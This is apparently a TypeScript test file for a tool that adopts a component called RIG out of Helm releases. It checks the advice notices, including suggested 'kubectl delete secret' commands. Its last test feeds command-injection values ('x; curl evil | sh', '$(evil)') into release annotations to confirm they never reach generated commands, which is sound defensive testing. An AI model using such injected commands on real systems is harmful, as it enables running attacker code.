import assert from "node:assert/strict";
import type { AdoptedObjects } from "../../../adoption/adoptedObjects";
import { adoptionStepProblems } from "../../../adoption/stepProblems";
import { stepNotice } from "../../../adoption/stepNotice";
import { findAdoptedObjects } from "../../../adoption/adoptedObjects";
import { releaseDetachment } from "../../../adoption/releaseDetachment";
import type { ClusterReader, FoundObject, ListedObject } from "../../../kubernetes/reader";
import type { AdoptionStep } from "../../../components";
import { instanceLabel, objectNames } from "../../../components/model/names";
import { helmRecord } from "../kubernetes/helmRecord";

const names = objectNames("rig");
const own = instanceLabel({ project: "rig", stack: "dev", name: "rig" });
const rig = [
    ["Deployment", names.deployment],
    ["Service", names.publicService],
    ["Service", names.headlessService],
] as const;
const orders = ["Deployment", "orders"] as const;

/** A manifest with these objects, by kind and name, from the templates of a chart. */
function manifest(chart: string | undefined, ...parts: readonly (readonly [kind: string, name: string])[]): string {
    const source = chart === undefined ? "" : `# Source: ${chart}/templates/some.yaml\n`;
    return parts.map(([kind, name]) => `---\n${source}kind: ${kind}\nmetadata: {name: ${name}}\n`).join("");
}

/** A cluster with RIG, imported and of the release `rig`, and with records of the release in a namespace. */
function cluster(
    records: readonly ListedObject[] | "forbidden",
    annotations: Record<string, string> = {},
    namespace = "rig-dev",
): ClusterReader {
    const spec = { clusterIP: "None", type: "ClusterIP", selector: { app: "rig" }, ports: [{ port: 4000 }] };
    const object: FoundObject = {
        labels: { "rig-adopted-by": own },
        annotations: { "meta.helm.sh/release-name": "rig", ...annotations },
        data: {},
        spec,
    };
    const open = { ...object, spec: { ...spec, clusterIP: "10.0.0.1" } };
    return {
        minorVersion: 36,
        find: ({ name }) => Promise.resolve(name === names.headlessService ? object : open),
        findAll: (kind, labels) =>
            Promise.resolve(
                kind.kind === "Secret" && kind.namespace === namespace && labels === "owner=helm,name=rig"
                    ? records
                    : [],
            ),
    };
}

async function find(...args: Parameters<typeof cluster>): Promise<AdoptedObjects> {
    return findAdoptedObjects(cluster(...args), "rig-dev", names);
}

async function way(...manifests: string[]): Promise<unknown> {
    const records = manifests.map((each, index) => helmRecord(index + 1, index === 0 ? "deployed" : "failed", each));
    const adopted = await find(records);
    assert.ok(adopted.release);
    return releaseDetachment(adopted.release, adopted);
}

async function outcome(adopt: AdoptionStep, ...args: Parameters<typeof cluster>) {
    const adopted = await find(...args);
    const desired = { project: "rig", stack: "dev", namespace: "rig-dev", gateway: { adopt }, adopted };
    return {
        problems: await adoptionStepProblems(cluster(...args), desired, adopted),
        notice: stepNotice(desired, adopted).join("\n"),
    };
}

describe("what Helm has to forget", () => {
    it("is the whole release when that is RIG alone, or RIG and what its chart adds", async () => {
        const alone = { step: "deleteRecords", others: [] };
        assert.deepEqual(await way(manifest("rig", ...rig)), alone);
        assert.deepEqual(await way(manifest("wrapper/charts/rig", ...rig)), alone);
        assert.deepEqual(await way(manifest("rig", ...rig, ["ConfigMap", "notice"])), {
            step: "deleteRecords",
            others: ["ConfigMap notice"],
        });
        assert.deepEqual(await way(manifest(undefined, ...rig, ["Ingress", "edge"])), {
            step: "deleteRecords",
            others: ["Ingress edge"],
        });
    });

    it("is RIG alone when the release is more: of another chart, or something that runs", async () => {
        const more = manifest("umbrella/charts/rig", ...rig);
        for (const others of [manifest("umbrella/charts/orders", orders), manifest("umbrella/charts/rig", orders)]) {
            assert.deepEqual(await way(more + others), { step: "upgradeWithoutRig", others: ["Deployment orders"] });
        }
        assert.deepEqual(await way(more + manifest("umbrella", ["ConfigMap", "all"])), {
            step: "upgradeWithoutRig",
            others: ["ConfigMap all"],
        });
        assert.deepEqual(await way(manifest(undefined, ...rig, orders)), {
            step: "upgradeWithoutRig",
            others: ["Deployment orders"],
        });
    });

    it("is nothing once a revision without RIG is deployed, and no later one brought it back", async () => {
        const without = manifest("umbrella/charts/orders", orders);
        assert.deepEqual(await way(without), { step: "none", others: ["Deployment orders"] });
        assert.deepEqual(await way(without, manifest("umbrella/charts/rig", ...rig) + without), {
            step: "upgradeWithoutRig",
            others: ["Deployment orders"],
        });
        assert.deepEqual(await way(manifest("rig", ...rig), without), {
            step: "upgradeWithoutRig",
            others: ["Deployment orders"],
        });
    });
});

describe("an adoption out of a release that is more than RIG", () => {
    const umbrella = [
        helmRecord(1, "deployed", manifest("umbrella/charts/rig", ...rig) + manifest("umbrella", orders)),
    ];
    const kept = { "helm.sh/resource-policy": "keep" };
    const advice = /It is more than RIG \(Deployment orders\), so don't delete its records\. Take RIG alone out of it/;

    it("never says to delete the release's records", async () => {
        const { notice } = await outcome("import", umbrella);
        assert.match(notice, advice);
        assert.doesNotMatch(notice, /kubectl delete secret/);
    });

    it("waits until the release goes on without RIG, which Helm leaves where it is", async () => {
        const [problem, ...more] = (await outcome("replace", umbrella, kept)).problems;
        assert.deepEqual([problem?.path, more], [["Helm release rig-dev/rig"], []]);
        assert.match(String(problem?.message), advice);
        assert.match(
            String((await outcome("replace", umbrella)).problems[0]?.message),
            /First run step import once more .* which marks the adopted objects so that Helm keeps them/,
        );
    });

    it("waits until Helm can't roll back to a revision with RIG", async () => {
        const without = helmRecord(2, "deployed", manifest("umbrella", orders));
        const before = helmRecord(1, "superseded", manifest("umbrella/charts/rig", ...rig));
        const [problem] = (await outcome("replace", [before, without], kept)).problems;
        assert.match(
            String(problem?.message),
            /Its deployed revision is without RIG, .* kubectl delete secret -n rig-dev -l 'owner=helm,name=rig,status!=deployed'$/,
        );
        assert.deepEqual((await outcome("replace", [without], kept)).problems, []);
    });

    it("is found where the release is in another namespace", async () => {
        const elsewhere = { ...kept, "meta.helm.sh/release-namespace": "apps" };
        const away = manifest("umbrella/charts/rig", ...rig).replaceAll("}", ", namespace: rig-dev}");
        const records = [helmRecord(1, "deployed", away + manifest("umbrella", orders))];
        const [problem] = (await outcome("replace", records, elsewhere, "apps")).problems;
        assert.deepEqual(problem?.path, ["Helm release apps/rig"]);
        assert.match(problem.message, advice);
    });

    it("leaves both ways open to someone who may not see the records", async () => {
        const { notice, problems } = await outcome("replace", "forbidden");
        assert.deepEqual(problems, []);
        assert.match(
            notice,
            /helm get manifest rig -n rig-dev\. If the release is RIG alone, .*kubectl delete secret -n rig-dev -l owner=helm,name=rig\. If it is more, take RIG alone out of it/,
        );
    });

    it("puts no name into a command that no release can have", async () => {
        for (const [key, text] of [
            ["name", "x; curl evil | sh"],
            ["namespace", "$(evil)"],
        ] as const) {
            const annotations = { [`meta.helm.sh/release-${key}`]: text };
            const { notice } = await outcome("import", "forbidden", annotations);
            assert.doesNotMatch(notice, /evil/);
        }
    });
});
